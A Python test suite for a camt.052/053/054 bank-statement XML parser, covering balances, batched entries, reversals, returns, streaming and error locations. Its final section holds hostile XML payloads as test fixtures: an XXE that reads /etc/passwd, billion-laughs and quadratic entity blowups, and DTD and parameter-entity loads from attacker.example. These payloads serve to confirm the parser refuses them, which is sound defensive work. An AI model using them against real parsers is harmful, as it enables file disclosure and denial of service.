"""camt.052/053/054 parsing: samples, versions, batches, reversals, returns, hostile XML, streaming."""

from __future__ import annotations

import io
from datetime import date
from decimal import Decimal

import pytest

from apps.statements.parsers import (
    BOOKED,
    CREDIT,
    DEBIT,
    INFO,
    EntriesNotConsumed,
    HostileXmlError,
    ParseError,
    collect,
    parse,
)


def _collect(path):
    with path.open("rb") as f:
        return collect(f)


# (file, [(account, currency, entries, credits, debits, opening, closing)]) - counted from the XML by hand
CAMT_EXPECTED = [
    ("camt053/camt053_v02_ing_example.xml", [("NL08INGB0000001234", "EUR", 9, "990.00", "385.00", "1000.00", "1605.00")]),
    ("camt053/camt053_v02_abnamro_example.xml", [("NL77ABNA0574908765", "EUR", 13, "28.00", "928.00", "1000.01", "100.01")]),
    (
        "camt053/camt053_v02_genkgo_multi_statement.xml",
        [
            ("NL26VAYB8060476890", "EUR", 1, "8.85", "0", "18.15", "27.00"),
            ("NL26VAYB8060476890", "EUR", 1, "0", "7.00", "27.00", "20.00"),
        ],
    ),
    (
        "camt053/camt053_v02_goldmansachs_uk.xml",
        [
            ("60000635", "GBP", 0, "0", "0", "68206.51", "68206.51"),
            ("GB36GSLD04296250000970", "GBP", 6, "200.00", "400.00", "334425218.07", "334425126.42"),
        ],
    ),
    (
        "camt053/camt053_v08_subite_lt_2024-03-08.xml",
        [
            ("LT625883379695428516", "EUR", 4, "5432191.43", "106752.86", "21903960.39", "27229398.96"),
            ("LT414319056143772570", "EUR", 0, "0", "0", "4801.55", "4801.55"),
        ],
    ),
    ("camt053/camt053_v04_oca_ch_txdtls.xml", [("CH1111000000123456789", "CHF", 1, "3483.00", "0", "75960.15", "79443.15")]),
    ("camt053/camt053_v04_oca_no_entries.xml", [("NL77ABNA0574908765", "CHF", 0, "0", "0", "1520.76", "1520.76")]),
    ("camt054/camt054_v04_postfinance_esr.xml", [("CH2909000000250094239", None, 2, "1537.00", "147.00", None, None)]),
    (
        "camt052/camt052_v08_hbci4java_invalid_saldo.xml",
        [("DE12345678901234567890", "EUR", 1, "0", "34.00", "100.0000000000005", "66.0000000000001")],
    ),
]


@pytest.mark.parametrize(("relative", "expected"), CAMT_EXPECTED, ids=[e[0].split("/")[1] for e in CAMT_EXPECTED])
def test_camt_samples_counts_balances_totals(sample, relative, expected):
    result = _collect(sample(relative))
    got = [
        (
            st.account,
            st.currency,
            st.entry_count,
            st.total_credits,
            st.total_debits,
            st.opening_booked,
            st.closing_booked,
        )
        for st, _ in result
    ]
    want = [
        (a, c, n, Decimal(cr), Decimal(db), None if o is None else Decimal(o), None if cl is None else Decimal(cl))
        for a, c, n, cr, db, o, cl in expected
    ]
    assert got == want


def test_every_camt_sample_parses_or_fails_with_a_location(sample):
    root = sample("camt053/camt053_v02_ing_example.xml").parents[1]
    invalid = {"camt052_v01_genkgo.xml", "camt053_v02_genkgo_invalid_wrong.xml"}
    parsed = 0
    for path in sorted(root.glob("camt05*/*.xml")):
        if path.name in invalid:
            with pytest.raises(ParseError) as err:
                _collect(path)
            assert err.value.location and err.value.location.startswith("line 3, /Document/BkToCstmr")
            continue
        result = _collect(path)
        assert result, path.name
        parsed += 1
    assert parsed == 35


def test_camt_version_01_is_refused_with_location(sample):
    with pytest.raises(ParseError, match="version 01") as err:
        _collect(sample("camt052/camt052_v01_genkgo.xml"))
    assert err.value.location == "line 3, /Document/BkToCstmrAcctRptV01"


def test_camt_statement_without_stmt_is_an_error(sample):
    with pytest.raises(ParseError, match=r"no <Stmt>") as err:
        _collect(sample("camt053/camt053_v02_genkgo_invalid_wrong.xml"))
    assert err.value.location == "line 3, /Document/BkToCstmrStmt"


def test_camt053_header_fields(sample):
    [(st, entries)] = _collect(sample("camt053/camt053_v02_abnamro_example.xml"))
    assert st.format == "camt.053.001.02"
    assert st.kind == "end_of_day"
    assert st.statement_id == "0574908765.2013-04-02"
    assert st.sequence == "0070"
    assert st.account_servicer == "ABNANL2A"
    assert st.message_id == "0574908765.2013-04-02"
    assert st.reconciles() is True
    assert [e.source_path for e in entries[:2]] == [
        "/Document/BkToCstmrStmt/Stmt[1]/Ntry[1]",
        "/Document/BkToCstmrStmt/Stmt[1]/Ntry[2]",
    ]


def test_camt_batched_entry_keeps_each_transaction(sample):
    [(st, entries)] = _collect(sample("camt053/camt053_v02_abnamro_example.xml"))
    batch = entries[3]  # SEPA acceptgiro batch of 10
    assert batch.amount == Decimal("10.00")
    assert len(batch.transactions) == 10
    assert sum(t.amount for t in batch.transactions) == batch.amount
    assert batch.end_to_end_id is None  # ten different payers: nothing lifted to the entry
    assert {t.structured_reference for t in batch.transactions} == {"1234567812345678"}
    sdd = entries[9]
    assert [t.end_to_end_id for t in sdd.transactions] == [f"SDD SIT 024-{i}" for i in range(1, 8)]
    assert sdd.transactions[0].mandate_id == "mandateref24-1"


def test_camt_return_with_reason_and_original_end_to_end(sample):
    [(st, entries)] = _collect(sample("camt053/camt053_v02_abnamro_example.xml"))
    ret = entries[11]
    assert ret.bank_tx_code.code == "PMNT/IDDT/UPDD"
    assert ret.is_return is True and ret.return_reason == "MS03"
    assert ret.original_end_to_end_id == "1234567X908303803"
    assert ret.amount == Decimal("-1.00") and ret.direction == DEBIT


def test_camt054_return_notification(sample):
    [(st, [entry])] = _collect(sample("camt054/camt054_v04_postfinance_returns.xml"))
    assert st.kind == "notification"
    assert entry.bank_tx_code.code == "PMNT/ICDT/RRTN"
    assert entry.bank_tx_code.is_return and entry.is_return
    assert entry.return_reason == "AC01"
    assert entry.original_end_to_end_id == "EndToEndId-004-01-01"
    assert entry.counterparty_name == "Robert Schneider SA"
    assert entry.counterparty_account == "CH8709000000929471495"
    assert entry.transactions[0].return_info == "Kontonummer falsch"


def test_camt_v8_status_code_and_party_wrapped_in_pty(sample):
    [(st, [entry])] = _collect(sample("camt053/camt053_v08_genkgo.xml"))
    assert entry.status == BOOKED
    assert entry.booking_date == date(2014, 12, 31)
    assert entry.value_date == date(2015, 1, 2)
    assert entry.counterparty_name == "NAME NAME"  # RltdPties/Dbtr/Pty/Nm (v8)
    assert entry.structured_reference == "4654654654654654"
    assert entry.end_to_end_id == "MUELL/FINP/RA12345"
    assert entry.bank_tx_code.code == "PMNT/RCDT/BOOK"


def test_camt_balance_without_indicator_is_credit(sample):
    result = _collect(sample("camt053/camt053_v08_subite_lt_2024-03-07.xml"))
    st = result[0][0]
    assert st.opening_booked == Decimal("21081222.58")
    assert st.closing_booked == Decimal("21903960.39")
    assert st.reconciles() is True
    assert [e.bank_tx_code.proprietary for e in result[0][1]] == ["ATSISK", "ATSISK", "KLIRNG"]


def test_camt052_pending_entries_are_not_in_totals(sample):
    [(st, [entry])] = _collect(sample("camt052/camt052_v04_genkgo.xml"))
    assert st.kind == "intraday"
    assert entry.status != BOOKED
    assert st.pending_count == 1
    assert st.total_credits == Decimal(0) and st.total_debits == Decimal(0)


CAMT_TEMPLATE = """<?xml version="1.0" encoding="UTF-8"?>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.04">
 <BkToCstmrStmt>
  <GrpHdr><MsgId>M1</MsgId><CreDtTm>2024-01-02T10:00:00</CreDtTm></GrpHdr>
  <Stmt>
   <Id>S1</Id><ElctrncSeqNb>7</ElctrncSeqNb><LglSeqNb>3</LglSeqNb>
   <FrToDt><FrDtTm>2024-01-01T00:00:00</FrDtTm><ToDtTm>2024-01-01T23:59:59</ToDtTm></FrToDt>
   <Acct><Id><Othr><Id>ACC-9</Id></Othr></Id></Acct>
   <Bal><Tp><CdOrPrtry><Cd>OPBD</Cd></CdOrPrtry></Tp><Amt Ccy="EUR">50.00</Amt><CdtDbtInd>DBIT</CdtDbtInd><Dt><Dt>2023-12-31</Dt></Dt></Bal>
   <Bal><Tp><CdOrPrtry><Cd>CLBD</Cd></CdOrPrtry></Tp><Amt Ccy="EUR">30.00</Amt><Dt><Dt>2024-01-01</Dt></Dt></Bal>
   {entries}
  </Stmt>
 </BkToCstmrStmt>
</Document>
"""

REVERSAL = """<Ntry><Amt Ccy="EUR">100.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><RvslInd>true</RvslInd><Sts>BOOK</Sts>
 <BookgDt><Dt>2024-01-01</Dt></BookgDt><ValDt><Dt>2024-01-01</Dt></ValDt><AcctSvcrRef>R1</AcctSvcrRef>
 <BkTxCd><Domn><Cd>PMNT</Cd><Fmly><Cd>ICDT</Cd><SubFmlyCd>ESCT</SubFmlyCd></Fmly></Domn></BkTxCd>
 <Chrgs><Rcrd><Amt Ccy="EUR">1.50</Amt><CdtDbtInd>DBIT</CdtDbtInd><ChrgInclInd>true</ChrgInclInd><Tp><Cd>COMM</Cd></Tp></Rcrd></Chrgs>
 <NtryDtls><TxDtls>
  <Refs><EndToEndId>E2E-1</EndToEndId></Refs>
  <AmtDtls><InstdAmt><Amt Ccy="USD">110.00</Amt><CcyXchg><SrcCcy>USD</SrcCcy><TrgtCcy>EUR</TrgtCcy><XchgRate>0.9090909</XchgRate></CcyXchg></InstdAmt></AmtDtls>
  <RltdPties><Dbtr><Nm>Payer Ltd</Nm></Dbtr><DbtrAcct><Id><IBAN>DE89370400440532013000</IBAN></Id></DbtrAcct></RltdPties>
  <RltdAgts><DbtrAgt><FinInstnId><BICFI>COBADEFFXXX</BICFI></FinInstnId></DbtrAgt></RltdAgts>
  <RmtInf><Ustrd>Invoice 42</Ustrd><Ustrd>part 2</Ustrd></RmtInf>
 </TxDtls></NtryDtls>
</Ntry>
<Ntry><Amt Ccy="EUR">80.00</Amt><CdtDbtInd>DBIT</CdtDbtInd><Sts>PDNG</Sts><BookgDt><Dt>2024-01-01</Dt></BookgDt></Ntry>"""


def test_camt_reversal_fx_charges_and_header_from_inline_fixture():
    xml = CAMT_TEMPLATE.format(entries=REVERSAL).encode()
    [(st, [rev, pending])] = collect(io.BytesIO(xml))
    assert (st.statement_id, st.sequence, st.legal_sequence) == ("S1", "7", "3")
    assert st.account == "ACC-9" and st.currency == "EUR"  # no Acct/Ccy: taken from the balances
    assert st.opening_booked == Decimal("-50.00") and st.closing_booked == Decimal("30.00")
    assert (st.period_from, st.period_to) == (date(2024, 1, 1), date(2024, 1, 1))
    assert rev.is_reversal and rev.amount == Decimal("100.00") and rev.direction == CREDIT
    assert rev.original_amount == Decimal("110.00") and rev.original_currency == "USD"
    assert rev.exchange_rate == Decimal("0.9090909")
    assert rev.charges[0].amount == Decimal("-1.50") and rev.charges[0].code == "COMM" and rev.charges[0].included
    assert rev.counterparty_bic == "COBADEFFXXX"
    assert rev.remittance_text == "Invoice 42 part 2"
    assert pending.status == "pending" and pending.amount == Decimal("-80.00")
    assert st.total_credits == Decimal("100.00") and st.total_debits == Decimal(0)
    assert st.reconciles() is False  # -50 + 100 != 30


def test_camt_without_namespace_is_parsed_by_element_names():
    xml = CAMT_TEMPLATE.format(entries=REVERSAL).replace(' xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.04"', "")
    [(st, entries)] = collect(io.BytesIO(xml.encode()))
    assert st.format == "camt.053" and len(entries) == 2 and entries[0].end_to_end_id == "E2E-1"


def test_camt_malformed_amount_names_line_and_path():
    bad = REVERSAL.replace("<Amt Ccy=\"EUR\">80.00</Amt>", "<Amt Ccy=\"EUR\">8O.00</Amt>")
    xml = CAMT_TEMPLATE.format(entries=bad).encode()
    with pytest.raises(ParseError, match=r"amount '8O.00'") as err:
        collect(io.BytesIO(xml))
    assert "/Document/BkToCstmrStmt/Stmt/Ntry" in err.value.location
    assert err.value.location.startswith("line 23")


def test_camt_truncated_xml_reports_line():
    xml = CAMT_TEMPLATE.format(entries=REVERSAL).encode()[:-200]
    with pytest.raises(ParseError, match="malformed XML|ended inside"):
        collect(io.BytesIO(xml))


def test_streaming_contract_totals_only_after_entries():
    xml = CAMT_TEMPLATE.format(entries=REVERSAL).encode()
    statements = parse(io.BytesIO(xml))
    st = next(statements)
    assert st.opening_booked == Decimal("-50.00")  # known before entries
    assert st.closing_booked == Decimal("30.00")  # camt gives it up front
    with pytest.raises(EntriesNotConsumed):
        _ = st.entry_count
    batches = list(st.entries.batches(1))
    assert [len(b) for b in batches] == [1, 1]
    assert st.entry_count == 2
    assert list(statements) == []


def test_skipped_entries_are_still_counted_and_then_refused():
    xml = CAMT_TEMPLATE.format(entries=REVERSAL).encode()
    statements = parse(io.BytesIO(xml))
    st = next(statements)
    assert list(statements) == []  # advancing drains the unread entries
    assert st.entry_count == 2
    with pytest.raises(RuntimeError, match="skipped"):
        next(st.entries)


def test_camt_memory_is_freed_per_entry():
    entries = "".join(
        f'<Ntry><Amt Ccy="EUR">1.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><Sts>BOOK</Sts><NtryRef>{i}</NtryRef></Ntry>'
        for i in range(2000)
    )
    xml = CAMT_TEMPLATE.format(entries=entries).encode()
    st = next(parse(io.BytesIO(xml)))
    first = next(st.entries)
    assert first.bank_reference == "0"
    for _ in st.entries:
        pass
    assert st.entry_count == 2000 and st.total_credits == Decimal("2000.00")


# --- hostile XML: every payload is refused before any expansion ------------------------------------------------

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><GrpHdr><MsgId>&xxe;</MsgId></GrpHdr></BkToCstmrStmt></Document>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><GrpHdr><MsgId>&lol9;</MsgId></GrpHdr></BkToCstmrStmt></Document>"""

QUADRATIC = (
    b'<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY a "'
    + b"x" * 50_000
    + b'">]>\n<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><GrpHdr><MsgId>'
    + b"&a;" * 1000
    + b"</MsgId></GrpHdr></BkToCstmrStmt></Document>"
)

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!-- a comment first does not hide it -->
<!DOCTYPE Document SYSTEM "http://attacker.example/evil.dtd">
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt/></Document>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"/>"""

UTF16_XXE = XXE.decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16")


@pytest.mark.parametrize(
    "payload",
    [XXE, BILLION_LAUGHS, QUADRATIC, EXTERNAL_DTD, PARAMETER_ENTITY, UTF16_XXE],
    ids=["xxe", "billion-laughs", "quadratic-blowup", "external-dtd", "parameter-entity", "utf16-xxe"],
)
def test_hostile_xml_is_refused(payload):
    with pytest.raises(HostileXmlError, match="DOCTYPE/entity declarations are not allowed") as err:
        list(parse(io.BytesIO(payload)))
    assert err.value.location.startswith("line ")


def test_hostile_xml_refused_even_with_explicit_format():
    with pytest.raises(HostileXmlError):
        list(parse(io.BytesIO(XXE), format="camt.053"))
